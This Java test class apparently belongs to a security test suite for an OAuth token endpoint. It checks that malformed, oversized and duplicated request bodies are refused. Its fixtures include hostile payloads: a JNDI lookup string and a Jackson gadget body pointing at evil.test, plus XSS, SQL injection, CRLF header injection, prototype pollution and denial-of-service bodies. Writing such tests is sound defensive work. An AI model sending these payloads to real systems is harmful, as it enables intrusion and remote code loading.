package dev.grantway.token.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.grantway.token.ServiceClientsResource;
import jakarta.inject.Singleton;
import java.io.IOException;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Bodies that are too large, of the wrong kind, or can be read in two ways. */
@Singleton
class BodyAttacks implements AttackClass {
    private static final String JSON = "application/json";

    @Override
    public Map<String, Attack> attacks() {
        return Map.of(
                "T12", BodyAttacks::ofAnotherType,
                "T13", BodyAttacks::tooLarge,
                "T14", BodyAttacks::withAnotherGrantType,
                "T23", BodyAttacks::thatWouldBeCached,
                "X10", BodyAttacks::withAParameterTwice,
                "X11", BodyAttacks::withOddCharacters,
                "X12", BodyAttacks::asDeepJson,
                "X13", BodyAttacks::compressed);
    }

    private static void ofAnotherType(Scene scene) throws IOException {
        var installed = scene.install();
        String form = Request.encode(scene.refreshOf(installed));
        String multipart = scene.refreshOf(installed).entrySet().stream()
                .map(field -> "--b\r\nContent-Disposition: form-data; name=\"" + field.getKey() + "\"\r\n\r\n"
                        + field.getValue() + "\r\n")
                .collect(Collectors.joining("", "", "--b--\r\n"));
        String path = scene.door().token();
        for (var request : List.of(
                Request.post(path, "multipart/form-data; boundary=b", multipart),
                Request.post(path, Request.FORM, form).without("Content-Type"),
                Request.post(path, "text/plain", form),
                Request.post(path, "application/xml", "<a/>"),
                Request.post(path, "x", form),
                Request.post(path, "", form))) {
            assertThat(scene.ask(request).status()).isIn(400, 415);
        }
        String json = json(scene.refreshOf(installed));
        for (var request : List.of(
                Request.post(path, Request.FORM + ";charset=UTF-8", form),
                Request.post(path, "Application/X-WWW-Form-URLEncoded; charset=\"utf-8\"", form),
                Request.post(path, JSON, json),
                Request.post(path, JSON + ";charset=utf-8", json))) {
            assertThat(scene.ask(request).status()).isEqualTo(200);
        }
        for (String odd : List.of(
                json.replaceFirst("\\{", "{\"grant_type\":\"password\","),
                json.replaceFirst("\\{", "{\"x\":{\"y\":1},"),
                json.replaceFirst("\\{", "{\"x\":[\"y\"],"),
                "[" + json + "]",
                json + json,
                form,
                "\"" + form + "\"")) {
            scene.assertRefused(scene.ask(Request.post(path, JSON, odd)), "400 invalid_request");
        }
    }

    private static String json(Map<String, String> fields) {
        return fields.entrySet().stream()
                .map(field -> "\"" + field.getKey() + "\":\"" + field.getValue() + "\"")
                .collect(Collectors.joining(",", "{", "}"));
    }

    private static void tooLarge(Scene scene) throws IOException {
        var installed = scene.install();
        String form = Request.encode(scene.refreshOf(installed));
        String path = scene.door().token();
        String many = IntStream.range(0, 10_000).mapToObj(i -> "p" + i + "=1").collect(Collectors.joining("&"));
        for (String body : List.of(
                form + "&x=" + "y".repeat(2 << 20),
                "refresh_token=" + "y".repeat(1 << 20),
                form + "&" + many,
                form + "&" + many.substring(0, 3_000),
                "a" + "[b]".repeat(10_000) + "=1",
                "a" + "[b][c]=1&a".repeat(50) + "=1",
                "&".repeat(60_000),
                "%".repeat(60_000))) {
            assertThat(scene.ask(Request.post(path, Request.FORM, body)).status())
                    .as("%d bytes", body.length())
                    .isIn(400, 413);
        }
        var chunked =
                Request.post(path, Request.FORM, chunks("y".repeat(1_000), 200)).with("Transfer-Encoding", "chunked");
        assertThat(Wire.send(chunked).status()).as("without a length, 200 kB").isIn(0, 400, 413);
        assertThat(scene.ask(Request.get(path).by("POST").with("Authorization", "Basic " + "A".repeat(100_000)))
                        .status())
                .isIn(400, 401, 413, 415, 431);
        scene.assertAlive(installed);
    }

    private static String chunks(String chunk, int count) {
        return (Integer.toHexString(chunk.length()) + "\r\n" + chunk + "\r\n").repeat(count) + "0\r\n\r\n";
    }

    private static void withAnotherGrantType(Scene scene) throws IOException {
        var installed = scene.install();
        for (String type : List.of(
                "password",
                "implicit",
                "AUTHORIZATION_CODE",
                "Refresh_Token",
                "refresh_token ",
                "refresh_token authorization_code",
                "urn:ietf:params:oauth:grant-type:token-exchange",
                "urn:ietf:params:oauth:grant-type:device_code",
                "x",
                "")) {
            var form = scene.refreshOf(installed);
            form.put("grant_type", type);
            form.put("username", "admin");
            form.put("password", "admin");
            scene.assertRefused(scene.token(form), "400 unsupported_grant_type", "400 invalid_request");
        }
        var without = scene.refreshOf(installed);
        without.remove("grant_type");
        scene.assertRefused(scene.token(without), "400 invalid_request");

        var service = new HashMap<>(Map.of("grant_type", "refresh_token", "client_id", "crm"));
        service.put("client_secret", ServiceClientsResource.SECRET);
        service.put("refresh_token", installed.refresh());
        scene.assertRefused(scene.token(service), "400 unauthorized_client");
        var open = Scene.proofOf(
                scene.installs().newApp(false), Map.of("grant_type", "client_credentials", "scope", "oauth"));
        scene.assertRefused(scene.token(open), "400 unauthorized_client", "400 invalid_client");
    }

    private static void thatWouldBeCached(Scene scene) throws IOException {
        var installed = scene.install();
        var good = Request.form(scene.door().token(), scene.refreshOf(installed));
        var bad = Request.form(scene.door().token(), Map.of("grant_type", "refresh_token"));
        for (var request : List.of(
                good,
                bad,
                good.with("Origin", "https://evil.test"),
                bad.with("Origin", "null").with("Sec-Fetch-Site", "cross-site"))) {
            var answer = scene.ask(request);
            assertThat(answer.header("Cache-Control")).hasValue("no-store");
            assertThat(answer.header("Pragma")).hasValue("no-cache");
            assertThat(answer.isJson()).isTrue();
            assertThat(answer.header("Set-Cookie")).isEmpty();
            assertThat(answer.header("Access-Control-Allow-Credentials")).isEmpty();
            assertThat(answer.header("Access-Control-Allow-Origin").orElse("*"))
                    .as("the caller's origin is not mirrored")
                    .isEqualTo("*");
        }
        var described = scene.introspect(installed.app(), installed.access());
        assertThat(described.header("Cache-Control")).hasValue("no-store");
        assertThat(described.header("Access-Control-Allow-Origin")).isEmpty();
    }

    private static void withAParameterTwice(Scene scene) throws IOException {
        var installed = scene.install();
        var another = scene.installs().newApp(true);
        String form = Request.encode(scene.refreshOf(installed));
        for (String twice : List.of(
                "client_id=" + another.clientId(),
                "client_id=" + installed.app().clientId(),
                "client%5Fid=" + another.clientId(),
                "grant_type=authorization_code",
                "refresh_token=x",
                "refresh_token=",
                "scope=oauth&scope=content",
                "x=1&x=2")) {
            for (String body : List.of(form + "&" + twice, twice + "&" + form)) {
                scene.assertRefused(
                        scene.ask(Request.post(scene.door().token(), Request.FORM, body)), "400 invalid_request");
            }
        }
        scene.assertAlive(installed);
    }

    private static void withOddCharacters(Scene scene) throws IOException {
        var installed = scene.install();
        var names = List.of(
                "grant_type",
                "client_id",
                "client_secret",
                "refresh_token",
                "scope",
                "code",
                "redirect_uri",
                "resource");
        var texts = List.of(
                "%00",
                "%0d%0aX-Injected:%201",
                "%0a",
                "%c0%80",
                "%ed%a0%80",
                "%ff",
                "%zz",
                "%e2%80%ae",
                "%f0%9f%92%a9",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "'%20OR%20'1'='1",
                "${jndi:ldap://evil.test/a}",
                "%7B%7B7*7%7D%7D",
                "%25s%25n");
        for (String name : names) {
            for (String text : texts) {
                var form = scene.refreshOf(installed);
                form.remove(name);
                String body = Request.encode(form) + "&" + name + "=" + text;
                var answer = scene.ask(Request.post(scene.door().token(), Request.FORM, body));
                assertThat(answer.status()).isBetween(200, 401);
                assertThat(answer.body()).doesNotContain("<script", "\u202e", "jndi");
            }
        }
        String oddName = "x%0d%0aX-Injected:%201=1&x%0d%0aX-Injected:%201=1&<script>=1&<script>=2";
        scene.assertRefused(
                scene.ask(Request.post(scene.door().token(), Request.FORM, oddName)), "400 invalid_request");
    }

    private static void asDeepJson(Scene scene) throws IOException {
        for (String body : List.of(
                "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000),
                "[".repeat(60_000),
                "{\"a\":" + "9".repeat(50_000) + "}",
                "{\"a\":1e999999999}",
                "{\"grant_type\":\"" + "\\u0000".repeat(100) + "\"}",
                "{\"grant_type\":\"\\ud800\"}",
                "{\"__proto__\":{\"active\":true}}",
                "\ufeff{\"grant_type\":\"refresh_token\"}",
                "{\"@class\":\"java.net.URL\",\"grant_type\":[\"java.net.URL\",\"http://evil.test\"]}",
                "{'grant_type':'refresh_token'}",
                "{\"grant_type\":\"refresh_token\",}",
                "// comment\n{}")) {
            scene.assertRefused(
                    scene.ask(Request.post(scene.door().token(), JSON, body)),
                    "400 invalid_request",
                    "400 invalid_client");
        }
    }

    private static void compressed(Scene scene) throws IOException {
        var installed = scene.install();
        String form = Request.encode(scene.refreshOf(installed));
        for (String coding : List.of("gzip", "deflate", "br", "gzip, gzip")) {
            var answer =
                    scene.ask(Request.post(scene.door().token(), Request.FORM, "\u001f\u008b" + form.substring(0, 20))
                            .with("Content-Encoding", coding));
            assertThat(answer.status()).isIn(400, 415);
        }
    }
}
